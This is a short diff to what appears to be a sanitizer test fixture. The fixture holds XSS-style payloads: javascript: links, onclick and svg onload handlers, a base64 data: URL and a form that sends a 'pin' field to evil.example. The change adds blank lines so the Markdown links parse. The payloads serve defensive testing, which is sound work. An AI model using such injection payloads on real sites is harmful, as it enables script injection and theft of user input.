@@ -116,9 +116,11 @@ HOSTILE = """\
 <a href="javascript:window.__pwned=3">click me</a>
 <a href="https://ok.example/" onclick="window.__pwned=4">fine link</a>
 <svg onload="window.__pwned=5"></svg>
+
 [markdown js](javascript:window.__pwned=6) and [data](data:text/html;base64,PHNjcmlwdD4=)
+
 <form action="https://evil.example/"><input name="pin"></form>
-"""
+"""  # (blank lines around the Markdown links: inside an HTML block CommonMark leaves them as text)
 
 
 def hostile_repo(repo):
